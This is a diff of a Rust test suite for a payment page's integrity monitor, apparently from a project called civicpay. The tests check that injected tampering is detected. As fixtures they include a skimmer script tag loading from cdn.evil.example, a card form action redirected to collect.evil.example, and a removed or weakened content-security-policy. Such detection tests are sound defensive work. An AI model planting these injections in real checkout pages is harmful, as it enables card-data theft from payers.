@@ -1065,7 +1065,7 @@ async fn the_openapi_document_matches_the_routes() {
             assert!(operation["operationId"].is_string() && operation["responses"].is_object());
         }
     }
-    assert_eq!(operations, 11);
+    assert_eq!(operations, 12);
     let text = doc.to_string();
     for reference in text.split("\"$ref\":\"#/components/schemas/").skip(1) {
         let name = reference.split('"').next().unwrap();
@@ -1213,5 +1213,251 @@ on_both!(
             by("channel=fax").await.status,
             StatusCode::UNPROCESSABLE_ENTITY
         );
+    }
+);
+
+/// A probe page, fetched as the monitor would: its observed form.
+async fn probe(pay: &Pay) -> (Reply, civicpay_pay::integrity::ObservedPage) {
+    let created = pay.api("POST", "/v1/probes", None, None).await;
+    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
+    let url = created.json()["probe_url"]
+        .as_str()
+        .unwrap()
+        .replace("http://pay.test", "");
+    let page = pay
+        .send(Request::get(&url).body(Body::empty()).unwrap())
+        .await;
+    let again = pay
+        .send(Request::get(&url).body(Body::empty()).unwrap())
+        .await;
+    assert_eq!(
+        again.status,
+        StatusCode::NOT_FOUND,
+        "a probe link works once"
+    );
+    let observed = civicpay_pay::integrity::ObservedPage::new(
+        page.status.as_u16(),
+        page.headers
+            .iter()
+            .map(|(k, v)| (k.as_str(), v.to_str().unwrap())),
+        &page.body,
+    );
+    (page, observed)
+}
+
+on_both!(
+    the_card_page_matches_its_manifest_and_each_tampering_is_named,
+    async |pay: &Pay| {
+        use civicpay_pay::integrity::{
+            BUILD_HEADER, ObservedPage, build_id, compare, manifest, page_structure,
+        };
+        let merchant = pay
+            .state
+            .store
+            .merchant_for_api_key(&pay.key)
+            .await
+            .unwrap()
+            .unwrap();
+        let manifest = manifest(pay.state.clone(), &merchant.tenant_id)
+            .await
+            .unwrap();
+        assert_eq!(manifest.build_id, build_id());
+        assert_eq!(manifest.card_page.status, 200);
+        assert!(
+            manifest.card_page.headers["content-security-policy"].contains("default-src 'none'")
+        );
+        assert_eq!(manifest.card_page.headers[BUILD_HEADER], build_id());
+        assert!(
+            manifest
+                .card_page
+                .structure
+                .elements
+                .iter()
+                .all(|e| e.starts_with("style")),
+            "{:?}",
+            manifest.card_page.structure.elements
+        );
+
+        let (page, observed) = probe(pay).await;
+        assert_eq!(compare(&manifest, &observed), Vec::<String>::new());
+        // The probe is the real page: a payer's card page has the same shape.
+        let created = pay.create("PROBE-CHECK").await;
+        let (_, _, real) = pay.open_card_page(&created).await;
+        assert_eq!(page_structure(&real.body), observed.structure);
+        assert_eq!(real.header(BUILD_HEADER), build_id());
+
+        let tampered = |headers: Vec<(&str, String)>, body: String| {
+            ObservedPage::new(200, headers.iter().map(|(k, v)| (*k, v.as_str())), &body)
+        };
+        let headers_of = |reply: &Reply| -> Vec<(&str, String)> {
+            civicpay_pay::integrity::PINNED_HEADERS
+                .iter()
+                .filter_map(|h| {
+                    reply
+                        .headers
+                        .get(*h)
+                        .map(|v| (*h, v.to_str().unwrap().to_owned()))
+                })
+                .collect()
+        };
+        let cases: Vec<(&str, ObservedPage, &str)> = vec![
+            (
+                "a skimmer script",
+                tampered(
+                    headers_of(&page),
+                    page.body.replace(
+                        "</head>",
+                        "<script src=\"https://cdn.evil.example/s.js\"></script></head>",
+                    ),
+                ),
+                "element added: script src=https://cdn.evil.example/s.js",
+            ),
+            (
+                "a byte of the stylesheet",
+                tampered(headers_of(&page), page.body.replacen("{", "{ ", 1)),
+                "matches no asset",
+            ),
+            (
+                "the form's action",
+                tampered(
+                    headers_of(&page),
+                    page.body.replace(
+                        "action=\"/card/",
+                        "action=\"https://collect.evil.example/card/",
+                    ),
+                ),
+                "form added: post https://collect.evil.example/card/{id}/{id}",
+            ),
+            (
+                "a dropped CSP",
+                tampered(
+                    headers_of(&page)
+                        .into_iter()
+                        .filter(|(k, _)| *k != "content-security-policy")
+                        .collect(),
+                    page.body.clone(),
+                ),
+                "header content-security-policy: missing",
+            ),
+            (
+                "a weakened CSP",
+                tampered(
+                    headers_of(&page)
+                        .into_iter()
+                        .map(|(k, v)| {
+                            if k == "content-security-policy" {
+                                (k, v.replace("default-src 'none'", "default-src *"))
+                            } else {
+                                (k, v)
+                            }
+                        })
+                        .collect(),
+                    page.body.clone(),
+                ),
+                "header content-security-policy: expected",
+            ),
+        ];
+        for (what, observed, expected) in cases {
+            let differences = compare(&manifest, &observed);
+            assert!(
+                differences.iter().any(|d| d.contains(expected)),
+                "{what}: {differences:?}"
+            );
+        }
+    }
+);
+
+on_both!(
+    every_card_submission_is_recorded_with_the_build_that_took_it,
+    async |pay: &Pay| {
+        let created = pay.create("ATTEMPTS-1").await;
+        let (path, cookies, page) = pay.open_card_page(&created).await;
+        let declined = pay
+            .submit(
+                &path,
+                &cookies,
+                &page.form_token(),
+                "4000 0000 0000 0002",
+                "123",
+            )
+            .await;
+        assert_eq!(declined.status, StatusCode::OK);
+        let mistyped = pay
+            .submit(
+                &path,
+                &cookies,
+                &page.form_token(),
+                "4242 4242 4242 4243",
+                "123",
+            )
+            .await;
+        assert_eq!(mistyped.status, StatusCode::UNPROCESSABLE_ENTITY);
+        let paid = pay
+            .submit(
+                &path,
+                &cookies,
+                &page.form_token(),
+                "4242 4242 4242 4242",
+                "123",
+            )
+            .await;
+        assert_eq!(paid.status, StatusCode::SEE_OTHER);
+        let merchant = pay
+            .state
+            .store
+            .merchant_for_api_key(&pay.key)
+            .await
+            .unwrap()
+            .unwrap();
+        let mut seen = Vec::new();
+        let count = pay
+            .state
+            .store
+            .incident_scope(
+                &merchant.tenant_id,
+                &civicpay_store::pay::ScopeFilter::default(),
+                |a| {
+                    seen.push(a);
+                    Ok(())
+                },
+            )
+            .await
+            .unwrap();
+        assert_eq!(
+            count, 3,
+            "the mistyped attempt counts: it was typed into the page"
+        );
+        let last4: Vec<_> = seen
+            .iter()
+            .map(|a| a.attempt.card_last4.clone().unwrap())
+            .collect();
+        assert_eq!(last4, ["0002", "4243", "4242"]);
+        assert!(
+            seen.iter()
+                .all(|a| a.attempt.build_id == civicpay_pay::integrity::build_id())
+        );
+        assert_eq!(
+            seen[0].attempt.elements,
+            "name,card_number,expiry,security_code,postal_code"
+        );
+        assert_eq!(seen[0].attempt.cardholder_name, "Ana Diaz");
+        assert_eq!(
+            seen[1].attempt.card_brand, None,
+            "a number that fails its check digit has no brand"
+        );
+        let other_build = pay
+            .state
+            .store
+            .incident_scope(
+                &merchant.tenant_id,
+                &civicpay_store::pay::ScopeFilter {
+                    build_id: Some("0.0.0+other".into()),
+                    ..Default::default()
+                },
+                |_| Ok(()),
+            )
+            .await
+            .unwrap();
+        assert_eq!(other_build, 0);
     }
 );
